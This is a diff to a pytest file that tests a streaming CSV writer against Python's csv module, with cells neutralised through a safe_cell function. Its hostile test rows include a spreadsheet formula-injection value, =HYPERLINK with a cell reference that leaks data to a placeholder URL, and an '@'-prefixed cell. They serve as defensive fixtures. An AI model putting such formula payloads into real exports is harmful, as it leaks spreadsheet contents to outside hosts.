@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 
-from outcomes.csvfiles import csv_text, safe_cell
+from outcomes.csvfiles import LINE_END, csv_fields, csv_stream, csv_text, safe_cell
 
 
 @pytest.mark.parametrize("hostile", [
@@ -97,3 +97,37 @@ def test_no_other_module_writes_csv_by_itself():
                  for package in ("outcomes", "patients") for path in (root / package).rglob("*.py")
                  if path.name != "csvfiles.py" and writer.search(path.read_text())]
     assert offenders == []
+
+
+HOSTILE_ROWS = [
+    {"a": '=HYPERLINK("http://x?"&C2)', "b": -0.109, "c": None},
+    {"a": 'say "hi", then\r\nleave', "b": "@x", "c": 7},
+    {"a": "", "b": "", "c": ""},
+]
+
+
+def python_writer(columns, rows) -> str:
+    """What Python's own writer makes of the cells once made safe (the oracle)."""
+    out = io.StringIO()
+    writer = csv.writer(out, lineterminator="\r\n")
+    writer.writerow([safe_cell(c) for c in columns])
+    for row in rows:
+        writer.writerow([safe_cell(row.get(c)) for c in columns])
+    return out.getvalue()
+
+
+def test_the_stream_writes_the_same_file_as_pythons_writer_in_pieces():
+    pieces = list(csv_stream(["a", "b", "c"], HOSTILE_ROWS, lines_per_chunk=2))
+    assert len(pieces) == 3  # the header, two lines, one line
+    assert "".join(pieces) == python_writer(["a", "b", "c"], HOSTILE_ROWS)
+    assert csv_text(["a", "b", "c"], HOSTILE_ROWS) == "".join(pieces)
+
+
+def test_a_line_of_one_empty_cell_is_not_a_blank_line():
+    assert "".join(csv_stream(["a"], [{"a": None}])) == python_writer(["a"], [{"a": None}])
+
+
+def test_fields_put_together_from_pieces_make_the_same_line():
+    row = HOSTILE_ROWS[1]
+    line = csv_fields([row["a"]]) + "," + csv_fields([row["b"], row["c"]]) + LINE_END
+    assert line == python_writer(["a", "b", "c"], [row]).split("\r\n", 1)[1]
